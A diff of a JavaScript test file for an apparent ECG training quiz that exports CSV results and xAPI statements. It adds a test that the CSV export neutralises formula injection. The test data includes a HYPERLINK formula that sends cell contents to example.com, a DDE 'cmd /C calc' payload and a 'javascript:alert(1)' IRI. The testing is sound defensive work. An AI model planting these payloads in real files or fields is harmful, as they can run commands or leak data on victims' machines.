@@ -22,9 +22,9 @@ const DURATION = /^P(?=\d|T\d)(T(?=\d)(\d+(\.\d+)?S))?$/;
 const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
 const VERB = /^http:\/\/adlnet\.gov\/expapi\/verbs\/(initialized|answered|completed|passed|failed|terminated)$/;
 
-/** The first case twice, the second once, the third without an answer. */
-function play() {
-  const set = caseSet({ attempts: 2, certainty: "ask", pass: 50 });
+/** The first case twice, the second once, the third without an answer. @param {string} [certainty] */
+function play(certainty = "ask") {
+  const set = caseSet({ attempts: 2, certainty, pass: 50 });
   const state = (more) => ({
     ...freshCase(),
     committed: true,
@@ -133,6 +133,21 @@ test("a line a task, with what is right, what it is worth, and who saw what", ()
   for (const line of lines) assert.match(line.disclaimer, /^Research and education only/);
 });
 
+test("no spreadsheet takes a name, a title or an answer for a formula, wherever it parts cells", () => {
+  const made = play();
+  made.learner = '=HYPERLINK("https://example.com/"&A1)';
+  made.set.title = "\t+1+cmd|' /C calc'!A0";
+  made.log[0].state.responses.say.text = 'as told;=1+1\n@SUM(A1)\r\n;"-2"';
+  const [find, , , , say] = rowsOf(resultsCsv(made));
+  assert.equal(find.learner, `'=HYPERLINK("https://example.com/"&A1)`);
+  assert.equal(find.set_title, "\t'+1+cmd|' /C calc'!A0");
+  assert.equal(say.response, `as told;'=1+1\n'@SUM(A1)\r\n;"'-2"`);
+  const cells = resultsCsv(made).split(/[,;\t\r\n]/);
+  for (const cell of cells) assert.doesNotMatch(cell, /^"*[=+@\uff1d]|^"*-\D/, cell);
+  made.learner = "\uff1dcmd";
+  assert.equal(rowsOf(resultsCsv(made))[0].learner, "'\uff1dcmd");
+});
+
 /** What the standard asks of any statement. */
 function checkStatement(statement) {
   assert.match(statement.id, UUID);
@@ -157,9 +172,31 @@ function checkStatement(statement) {
   assert.ok(score.min < score.max && score.raw >= score.min && score.raw <= score.max, JSON.stringify(score));
 }
 
+/** What it asks of an answer: parts that the interaction has, in the forms of its kind. */
+function checkInteraction({ object, result }) {
+  const { interactionType: type, correctResponsesPattern: right, choices, steps } = object.definition;
+  assert.ok(["choice", "numeric", "performance", "long-fill-in"].includes(type), type);
+  for (const pattern of right ?? []) assert.equal(typeof pattern, "string");
+  if (type === "numeric") {
+    const [low, high] = right[0].split("[:]").map(Number);
+    assert.ok(Number.isFinite(low) && low <= high, right[0]);
+  }
+  const ids = (choices ?? steps)?.map(({ id }) => id) ?? [];
+  assert.equal(new Set(ids).size, ids.length);
+  for (const id of ids) assert.match(id, /^\S+$/);
+  const named = [result.response, ...(right ?? [])].flatMap((text) => text.split("[,]")).filter(Boolean);
+  if (type === "choice") for (const part of named) assert.ok(ids.includes(part), part);
+  if (type === "performance") for (const part of named) assert.ok(ids.includes(part.split("[.]")[0]), part);
+}
+
 test("xAPI: every statement is one, responses fit their interactions, and points are those of the table", () => {
-  for (const iri of ["https://example.edu/ecg/rhythm-3", "", "no address at all", "javascript:alert(1)"]) {
-    const made = play();
+  const addresses = ["https://example.edu/ecg/rhythm-3", "", "no address at all", "javascript:alert(1)"];
+  for (const [iri, certainty] of [...addresses.map((each) => [each, "ask"]), [addresses[0], "marks"]]) {
+    const made = play(certainty);
+    // More marks than there are targets.
+    const { marks } = made.log[0].state.responses.where;
+    marks.push({ lead: "II", from: 1, to: 1.5 }, { lead: "II", from: 2, to: 2.5 });
+    made.results = core.score(JSON.stringify(made.set), answersDocument(made.set, made.log, ""));
     made.set.iri = iri;
     const session = uuid();
     const statements = new Statements(made.set, actorOf(null, "", session), session);
@@ -179,16 +216,7 @@ test("xAPI: every statement is one, responses fit their interactions, and points
     const sum = answered.reduce((points, { result }) => points + (result.score?.raw ?? 0), 0);
     const table = rowsOf(resultsCsv(made)).reduce((points, line) => points + Number(line.points), 0);
     assert.ok(Math.abs(sum - table) < 1e-9, `${sum} ${table}`);
-    for (const { object, result } of answered) {
-      const { interactionType: type, correctResponsesPattern: right, choices, steps } = object.definition;
-      if (type === "numeric") assert.match(right[0], /^-?[\d.]+\[:\]-?[\d.]+$/);
-      const ids = (choices ?? steps)?.map(({ id }) => id);
-      const parts = result.response.split("[,]").filter(Boolean);
-      if (type === "choice")
-        for (const part of [...parts, ...right[0].split("[,]")]) assert.ok(ids.includes(part), part);
-      if (type === "performance")
-        for (const part of right[0].split("[,]")) assert.ok(ids.includes(part.split("[.]")[0]));
-    }
+    for (const each of answered) checkInteraction(each);
   }
 });
 
